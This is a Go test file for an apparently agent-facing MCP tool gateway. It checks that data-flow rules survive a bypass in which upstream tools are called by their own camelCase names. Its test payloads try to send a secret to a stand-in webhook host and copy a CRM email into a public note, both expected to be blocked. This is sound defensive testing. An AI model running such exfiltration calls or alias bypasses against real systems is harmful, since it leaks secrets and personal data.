package security

import (
	"context"
	"fmt"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/mark3labs/mcp-go/mcp"
	mcpsrv "github.com/mark3labs/mcp-go/server"
)

// TestAliasSkipsDataFlowRules (issue 19, third attack round, H9): an
// upstream tool whose own name is not snake_case (readSecret, as many
// servers name theirs) is registered as vault2.read_secret and answers to
// its own name too. A data-flow rule written with the name the catalogue
// shows holds for a call by either name.
func TestAliasSkipsDataFlowRules(t *testing.T) {
	t.Parallel()
	a := startAliased(t, `
[[filter.rules]]
from = "vault2.read_secret"
to = "http.*"

[[filter.rules]]
from = "crm.*"
to = "vault2.write_note"
`)
	checkAliasRules(t, a)
}

// TestRulesByTheUpstreamsOwnNames (attack27 T6): the same rules written
// with the names the upstream server gives its tools (readSecret,
// writeNote) hold for calls by either name, and for a token of a crm
// value resolved toward the tool. Before, such a rule matched no tool: the
// catalogue's names alone were matched.
func TestRulesByTheUpstreamsOwnNames(t *testing.T) {
	t.Parallel()
	a := startAliased(t, `
[[filter.rules]]
from = "vault2.readSecret"
to = "http.*"

[[filter.rules]]
from = "crm.*"
to = "vault2.writeNote"
`)
	checkAliasRules(t, a)
	rec := a.run(`const c = await crm.get_contact({id: "c_8812"}); return c.email`)
	token := strings.Trim(string(rec.Result), `"`)
	if !strings.HasPrefix(token, "⟦email:") {
		t.Fatalf("the contact's address is not a token: %.300s", rec.raw)
	}
	for _, call := range []string{"write_note", "writeNote"} {
		if rec := a.run(`await vault2.` + call + `({text: "` + token + `"}); return "SENT"`); rec.Status != "error" || rec.Error.Code != "policy_violation" {
			t.Errorf("a crm token resolved toward vault2.%s: %.400s", call, rec.raw)
		}
	}
}

// startAliased starts codecell with an upstream whose tools' names are not
// snake_case (readSecret, writeNote), the given rules and the demo
// catalogue, and waits for the upstream to load.
func startAliased(t *testing.T, rules string) *session {
	up := mcpsrv.NewMCPServer("vault2", "1", mcpsrv.WithToolCapabilities(false))
	up.AddTool(mcp.NewTool("readSecret", mcp.WithDescription("Read the launch plan.")),
		func(context.Context, mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			return mcp.NewToolResultText("Project Nightingale launches on the 14th"), nil
		})
	up.AddTool(mcp.NewTool("writeNote", mcp.WithDescription("Write a public note."), mcp.WithString("text")),
		func(context.Context, mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			return mcp.NewToolResultText("written"), nil
		})
	ts := httptest.NewServer(mcpsrv.NewStreamableHTTPServer(up))
	t.Cleanup(ts.Close)
	cfg := filepath.Join(t.TempDir(), "config.toml")
	if err := os.WriteFile(cfg, []byte(fmt.Sprintf(`%s
[upstream.vault2]
url = %q
`, rules, ts.URL+"/mcp")), 0o600); err != nil {
		t.Fatal(err)
	}
	catalog, _ := filepath.Abs(filepath.Join("..", "..", "..", "testdata", "catalog"))
	s := start(t, "--config", cfg, "--catalog", catalog)
	a := s.open(t, aliceToken)
	deadline := time.Now().Add(60 * time.Second)
	for {
		if rec := a.run(`return typeof vault2 === "object" && typeof vault2.read_secret === "function" && typeof vault2.readSecret === "function"`); string(rec.Result) == "true" {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the upstream did not load")
		}
		time.Sleep(200 * time.Millisecond)
	}
	return a
}

// checkAliasRules checks the rules of startAliased by both names.
func checkAliasRules(t *testing.T, a *session) {
	post := func(expr string) string {
		return `await http.post_webhook({url: "https://hooks.example/x", payload: {v: ` + expr + `}}); return "SENT"`
	}
	const crm = `const c = await crm.get_contact({id: "c_8812"}); `
	for _, tc := range []struct{ name, code string }{
		{"from, by its name", `const v = await vault2.read_secret({}); ` + post("JSON.stringify(v)")},
		{"from, by its own name", `const v = await vault2.readSecret({}); ` + post("JSON.stringify(v)")},
		{"to, by its name", crm + `await vault2.write_note({text: c.email}); return "SENT"`},
		{"to, by its own name", crm + `await vault2.writeNote({text: c.email}); return "SENT"`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if rec := a.run(tc.code); rec.Status != "error" || rec.Error.Code != "policy_violation" {
				t.Errorf("the rule did not hold: %.400s", rec.raw)
			}
		})
	}
}
